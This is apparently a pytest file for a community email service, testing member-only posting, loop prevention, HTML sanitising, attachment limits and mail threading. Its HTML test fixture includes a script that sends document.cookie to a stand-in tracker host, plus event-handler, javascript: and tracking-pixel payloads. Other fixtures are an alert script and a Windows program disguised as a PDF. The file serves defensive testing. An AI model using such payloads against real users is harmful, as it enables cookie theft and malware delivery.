"""Community conversations kept safe: strangers refused once and never looped, HTML made inert, attachments
kept up to the community's limit and linked (never embedded), and real mail clients' posts threaded."""
from email.message import EmailMessage
from email.utils import formatdate, make_msgid
from pathlib import Path

from sqlalchemy import func, select

from service.conversations.addresses import community_address
from service.conversations.attachments import download_url
from service.conversations.delivery import publish
from service.extensions import db
from service.models import AuditEvent, Community, InboundMessage, OutboundEmail, Post, PostAttachment
from tests.conftest import open_riverside, post_form, run_worker
from tests.inbound_mail import compose, deliver

FIXTURES = Path(__file__).parent / "fixtures" / "conversations"


def _riverside() -> Community:
    return db.session.scalar(select(Community).where(Community.name == "Riverside COP"))


def _outbox(kind: str) -> list[OutboundEmail]:
    return list(db.session.scalars(select(OutboundEmail).where(OutboundEmail.kind == kind)))


def _fixture(name: str, **values) -> bytes:
    raw = (FIXTURES / name).read_bytes()
    for key, value in values.items():  # sender= fills @@FROM@@, in_reply_to= @@IN_REPLY_TO@@, ...
        raw = raw.replace(f"@@{'FROM' if key == 'sender' else key.upper()}@@".encode(), value.encode())
    return raw


def _html_post(sender: str, to: str, subject: str, text: str, html: str, files=()) -> bytes:
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = sender, to, subject
    message["Date"], message["Message-ID"] = formatdate(), make_msgid(domain="mail.example.net")
    message.set_content(text)
    message.add_alternative(html, subtype="html")
    for filename, content_type, data in files:
        maintype, subtype = content_type.split("/")
        message.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    return bytes(message)


# --- someone who is not a member -----------------------------------------------------------------

def test_a_non_members_post_is_refused_once_and_never_loops(app, ctx, personas, smtp):
    community = open_riverside()
    address = community_address(community)
    first = deliver(app, compose("Sam Stranger <sam@example.net>", address, subject="Can I join?",
                                 body="Hello, I run a food bank. Can I post here?"), address)
    again = deliver(app, compose("sam@example.net", address, subject="Hello again", body="Anyone there?"), address)
    assert (first.status, first.outcome) == ("held", "not_a_member") and "they were told so" in first.reason
    assert again.status == "held" and "told" not in again.reason  # the day's refusal went already
    run_worker(app)
    refusals = smtp.to("sam@example.net")
    assert len(refusals) == 1
    refusal = refusals[0].message
    assert refusal["Subject"] == "Your message to Riverside COP was not posted"
    assert refusal["Auto-Submitted"] == "auto-replied" and refusal["X-Loop"]
    assert refusal["In-Reply-To"] == first.message_id
    assert refusal["List-Unsubscribe"] is None and refusal["List-Id"] is None  # not a member email
    text = refusal.get_body(("plain",)).get_content()
    assert "only takes messages from the community's members" in text
    assert "Alice" in text and "alice@example.org" not in text  # whom to ask, by name only
    assert "solo recibe mensajes de sus miembros" in text  # and in Spanish for someone we do not know
    assert db.session.scalar(select(func.count(Post.id))) == 0
    assert smtp.to("ana@example.org") == []  # no member heard of it

    # Sam's auto-responder answers the refusal, to the community's address: nothing is posted or sent.
    auto = deliver(app, compose("sam@example.net", address, subject="Automatic reply: Your message was not posted",
                                body="I am out of the office until Monday.", Auto_Submitted="auto-replied",
                                In_Reply_To=refusal["Message-ID"]), address)
    # One that says nothing of being automatic is still only the day's second message from Sam.
    bare = deliver(app, compose("sam@example.net", address, subject="Re: Your message to Riverside COP",
                                body="Thanks for your email.", In_Reply_To=refusal["Message-ID"]), address)
    run_worker(app)
    assert auto.status == "ignored" and bare.status == "held"
    assert len(smtp.to("sam@example.net")) == 1 and len(_outbox("post_not_member")) == 1


def test_no_refusal_goes_to_our_own_addresses_a_missing_sender_or_mail_carrying_our_loop_mark(app, ctx, personas,
                                                                                             smtp):
    community = open_riverside()
    address = community_address(community)
    ours = deliver(app, compose("lakeside-cop@cop.localhost", address, subject="Hi", body="A copy of ours."), address)
    nobody = deliver(app, compose("not an address", address, subject="Hi", body="Who am I?"), address)
    looped = deliver(app, compose("forwarder@example.net", address, subject="Intake",
                                  body="A copy forwarded back by someone's server.",
                                  X_Loop="riverside-cop@cop.localhost"), address)
    listed = deliver(app, compose("list@example.net", address, subject="Intake", body="A list's copy.",
                                  List_Id=f"Riverside COP <community-{community.id}.cop.localhost>"), address)
    run_worker(app)
    assert ours.status == "ignored" and looped.status == "ignored" and "X-Loop" in looped.reason
    assert listed.status == "ignored" and nobody.status == "held"
    assert _outbox("post_not_member") == [] and smtp.messages == []


def test_someone_we_know_is_refused_in_their_own_language(app, ctx, personas, smtp):
    lakeside = db.session.scalar(select(Community).where(Community.name == "Lakeside COP"))
    address = community_address(lakeside)  # Ana (Spanish) belongs to Riverside only
    deliver(app, compose("ana@example.org", address, subject="Pregunta", body="¿Puedo escribir aquí?"), address)
    run_worker(app)
    refusal = smtp.to("ana@example.org")[0].message
    assert refusal["Subject"] == "Su mensaje a Lakeside COP no se publicó"
    text = refusal.get_body(("plain",)).get_content()
    assert "Bob" in text and "only takes" not in text


# --- HTML ----------------------------------------------------------------------------------------

HOSTILE = """<html><head><style>body { background: url(http://tracker.example/css.png) }</style>
<script>document.location = 'http://tracker.example/steal?' + document.cookie</script></head>
<body onload="steal()"><p onclick="steal()">We tried <b>evening hours</b>.
<a href="javascript:alert(1)">see this</a> <a href="https://example.org/report">our report</a></p>
<img src="http://tracker.example/pixel.gif" width="1" height="1">
<div style="background-image: url('http://tracker.example/bg.png')">Styled text</div>
<iframe src="http://tracker.example/frame"></iframe><form action="http://tracker.example/f"><input name="x"></form>
<svg onload="steal()"><image href="http://tracker.example/s.png"/></svg>
</body></html>"""


def test_html_with_script_arrives_inert_in_every_copy_with_a_readable_plain_text_part(app, ctx, personas, smtp):
    community = open_riverside()
    address = community_address(community)
    deliver(app, _html_post("ana@example.org", address, "Evening hours", "We tried evening hours. Our report: "
                            "https://example.org/report", HOSTILE), address)
    run_worker(app)
    copies = [r.message for r in smtp.messages]
    assert {r.rcpt_tos[0] for r in smtp.messages} == {"rosa@example.org", "tom@example.org"}
    for copy in copies:
        html = copy.get_body(("html",)).get_content()
        assert "We tried <b>evening hours</b>" in html and 'href="https://example.org/report"' in html
        for active in ("<script", "onload", "onclick", "javascript:", "tracker.example", "url(", "<img", "<iframe",
                       "<form", "<svg", "<style"):
            assert active not in html.lower(), active
        assert "We tried evening hours" in copy.get_body(("plain",)).get_content()


# --- attachments ---------------------------------------------------------------------------------

PDF = b"%PDF-1.4\n" + b"0" * 3000
# The start of a Windows program: "MZ", at 0x3C the offset of the "PE" signature.
WINDOWS_PROGRAM = (b"MZ\x90\x00" + b"\x00" * 56 + (0x80).to_bytes(4, "little") + b"\x00" * 64
                   + b"PE\x00\x00" + b"\x00" * 100)
PNG = b"\x89PNG\r\n\x1a\n" + b"1" * 500


def test_attachments_are_kept_and_linked_from_every_copy_never_embedded(app, ctx, personas, smtp):
    community = open_riverside()
    address = community_address(community)
    deliver(app, _html_post("ana@example.org", address, "Our intake form", "Here is our intake form.",
                            "<p>Here is our intake form.</p>",
                            files=[("intake form.pdf", "application/pdf", PDF), ("photo.png", "image/png", PNG),
                                   ("page.html", "text/html", b"<script>alert(1)</script>")]), address)
    post = db.session.scalar(select(Post))
    assert [(a.filename, a.size) for a in post.attachments] == [("intake form.pdf", len(PDF)), ("photo.png", len(PNG)),
                                                                ("page.html", 25)]
    run_worker(app)
    copy = smtp.to("rosa@example.org")[0].message
    assert [part.get_content_type() for part in copy.walk() if not part.is_multipart()] == ["text/plain", "text/html"]
    text, html = copy.get_body(("plain",)).get_content(), copy.get_body(("html",)).get_content()
    assert "intake form.pdf (3 KB): http" in text and "<img" not in html
    links = {a.filename: f"/m/files/{a.id}/" + text.split(f"/m/files/{a.id}/")[1].split()[0] for a in post.attachments}
    assert all(link in html for link in links.values())

    client = app.test_client()
    pdf = client.get(links["intake form.pdf"])
    assert pdf.status_code == 200 and pdf.data == PDF
    assert pdf.headers["Content-Type"] == "application/pdf"
    disposition = pdf.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and "intake" in disposition
    assert pdf.headers["X-Content-Type-Options"] == "nosniff"
    page = client.get(links["page.html"])  # never served as a page of ours
    assert page.headers["Content-Type"] == "application/octet-stream"
    assert page.headers["Content-Disposition"].startswith("attachment")
    # A link is one file's: guessed, altered or another file's id, it opens nothing.
    pdf_id, png_id = post.attachments[0].id, post.attachments[1].id
    assert client.get(links["intake form.pdf"].replace(f"/{pdf_id}/", f"/{png_id}/")).status_code == 404
    assert client.get(links["intake form.pdf"][:-3] + "AAA").status_code == 404
    assert client.get(f"/m/files/{pdf_id}/1.1.1.abc").status_code == 404


def test_an_attachment_over_the_limit_is_not_posted_and_its_author_is_told_the_file_and_the_limit(app, ctx, personas,
                                                                                                 smtp):
    community = open_riverside()
    community.attachment_limit_kb = 100
    db.session.commit()
    address = community_address(community)
    raw = _html_post("ana@example.org", address, "Our annual report", "The report is attached.",
                     "<p>The report is attached.</p>",
                     files=[("small.png", "image/png", PNG), ("annual report.pdf", "application/pdf",
                                                             b"%PDF" + b"x" * 150 * 1024)])
    row = deliver(app, raw, address)
    assert (row.status, row.outcome) == ("held", "attachment_refused")
    assert "annual report.pdf" in row.reason and row.raw == raw  # kept as it came: nothing lost
    assert db.session.scalar(select(func.count(Post.id))) == 0
    assert db.session.scalar(select(func.count(PostAttachment.id))) == 0
    run_worker(app)
    assert [r.rcpt_tos[0] for r in smtp.messages] == ["ana@example.org"]  # only the author hears of it
    answer = smtp.messages[0].message
    assert answer["Auto-Submitted"] == "auto-replied"
    text = answer.get_body(("plain",)).get_content()  # Ana reads Spanish
    assert '"annual report.pdf"' in text and "150 KB" in text and "100 KB" in text
    assert "no se publicó" in text


def test_a_waiting_posts_files_open_only_once_it_is_published(app, ctx, personas, smtp):
    community = open_riverside()
    community.moderation = "all"
    db.session.commit()
    address = community_address(community)
    deliver(app, _html_post("rosa@example.org", address, "Flyer", "Our flyer.", "<p>Our flyer.</p>",
                            files=[("flyer.pdf", "application/pdf", PDF)]), address)
    post = db.session.scalar(select(Post))
    link = download_url(post.attachments[0]).split("://", 1)[1].partition("/")[2]
    assert post.status == "waiting" and app.test_client().get("/" + link).status_code == 404
    publish(post)
    db.session.commit()
    assert app.test_client().get("/" + link).data == PDF


def test_a_community_that_takes_no_attachments_says_so(app, ctx, personas, smtp):
    community = open_riverside()
    community.attachment_limit_kb = 0
    db.session.commit()
    address = community_address(community)
    row = deliver(app, _html_post("tom@example.org", address, "Photo", "A photo.", "<p>A photo.</p>",
                                  files=[("team.png", "image/png", PNG)]), address)
    assert row.outcome == "attachment_refused"
    run_worker(app)
    text = smtp.to("tom@example.org")[0].message.get_body(("plain",)).get_content()
    assert 'This community does not take attachments, and your message carried "team.png".' in text


def test_a_program_is_refused_whatever_its_name_says(app, ctx, personas, smtp):
    community = open_riverside()
    address = community_address(community)
    row = deliver(app, _html_post("rosa@example.org", address, "Tool", "A handy tool.", "<p>A handy tool.</p>",
                                  files=[("invoice.pdf", "application/pdf", WINDOWS_PROGRAM)]), address)
    assert row.outcome == "attachment_refused" and "a program" in row.reason
    run_worker(app)
    text = smtp.to("rosa@example.org")[0].message.get_body(("plain",)).get_content()
    assert '"invoice.pdf" is a program' in text
    assert db.session.scalar(select(func.count(Post.id))) == 0


def test_the_attachment_limit_is_a_coordinator_setting_bounded_and_audited(app, personas, alice_client):
    url = f"/communities/{personas['riverside']}/edit"
    fields = {"name": "Riverside COP", "time_zone": "America/Chicago", "stage": "forming",
              "digest_cadence": "biweekly", "reminder_offsets": "", "feedback_delay_hours": "2"}
    too_big = post_form(alice_client, url, {**fields, "attachment_limit_kb": "50000"})
    assert too_big.status_code == 400 and "10240" in too_big.get_data(as_text=True)
    saved = post_form(alice_client, url, {**fields, "attachment_limit_kb": "512"})
    assert saved.status_code == 302
    with app.app_context():
        assert db.session.get(Community, personas["riverside"]).attachment_limit_kb == 512
        event = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "community.update"))
        assert event.details["changes"]["attachment_limit_kb"] == [2048, 512]
    assert 'value="512"' in alice_client.get(url).get_data(as_text=True)


# --- real mail clients ---------------------------------------------------------------------------

def test_posts_and_replies_from_gmail_outlook_and_apple_mail_thread_with_quotes_and_signatures_trimmed(
        app, ctx, personas, smtp):
    community = open_riverside()
    address = community_address(community)
    list_id = f"community-{community.id}.cop.localhost"

    row = deliver(app, _fixture("gmail_new_post.eml", sender="ana@example.org", to=address), address)
    assert row.outcome == "post"
    first = db.session.scalar(select(Post))
    assert first.text.endswith("some families still leave before the first visit.")  # no signature
    run_worker(app)
    to_rosa = smtp.to("rosa@example.org")[0].message
    assert to_rosa["Message-ID"] == first.message_id
    assert to_rosa["In-Reply-To"] is None and to_rosa["References"] is None  # it starts the thread
    assert to_rosa["List-Id"] == f"Riverside COP <{list_id}>"
    assert to_rosa["List-Post"] == f"<mailto:{address}>"
    assert "/m/unsubscribe/" in to_rosa["List-Unsubscribe"] and "mailto:" in to_rosa["List-Unsubscribe"]
    assert to_rosa["Reply-To"].addresses[0].addr_spec == address
    html = to_rosa.get_body(("html",)).get_content()
    assert "<b>intake for families without documents</b>" in html
    for signature in ("Intake lead", "010-2233", "googleusercontent"):
        assert signature not in html and signature not in to_rosa.get_body(("plain",)).get_content()

    # Rosa answers her copy from Outlook: it joins the thread, under the post, without Outlook's quote.
    reply = _fixture("outlook_reply.eml", sender="rosa@example.org", to=address, in_reply_to=to_rosa["Message-ID"],
                     references=to_rosa["Message-ID"])
    assert deliver(app, reply, address).outcome == "post"
    second = db.session.scalar(select(Post).where(Post.id != first.id))
    assert second.in_reply_to_id == first.id and second.conversation_id == first.conversation_id
    run_worker(app)
    to_ana = smtp.to("ana@example.org")[0].message
    assert to_ana["Message-ID"] == second.message_id and to_ana["In-Reply-To"] == first.message_id
    assert to_ana["References"].split() == [first.original_message_id, first.message_id]
    assert to_ana["Subject"] == "RE: Intake for families without documents"
    assert to_ana["List-Id"] == f"Riverside COP <{list_id}>"
    for part in ("plain", "html"):
        body = to_ana.get_body((part,)).get_content()
        assert "We stopped asking for ID" in body
        assert "How do you handle" not in body and "Sent:" not in body
    assert "Program Manager" not in to_ana.get_body(("html",)).get_content()

    # Tom answers Rosa's copy from Apple Mail, to the community (and Cc it): one post, under Rosa's.
    to_tom = smtp.to("tom@example.org")[-1].message
    apple = _fixture("apple_mail_reply.eml", sender="tom@example.org", to=address, in_reply_to=to_tom["Message-ID"],
                     references=to_tom["References"] + " " + to_tom["Message-ID"])
    assert deliver(app, apple, address).outcome == "post"
    third = db.session.scalar(select(Post).order_by(Post.id.desc()))
    assert third.in_reply_to_id == second.id and third.text == ("Same here: a promotora calls the family the day "
                                                               "before. Fewer missed first visits since.\n\nTom")
    run_worker(app)
    to_rosa = smtp.to("rosa@example.org")[-1].message
    assert to_rosa["Message-ID"] == third.message_id and to_rosa["In-Reply-To"] == second.message_id
    assert to_rosa["References"].split() == [first.original_message_id, first.message_id, second.message_id]
    html = to_rosa.get_body(("html",)).get_content()
    assert "<i>promotora</i>" in html and "We stopped asking" not in html
    assert "We stopped asking" not in to_rosa.get_body(("plain",)).get_content()
    assert db.session.scalar(select(func.count(InboundMessage.id))) == 3
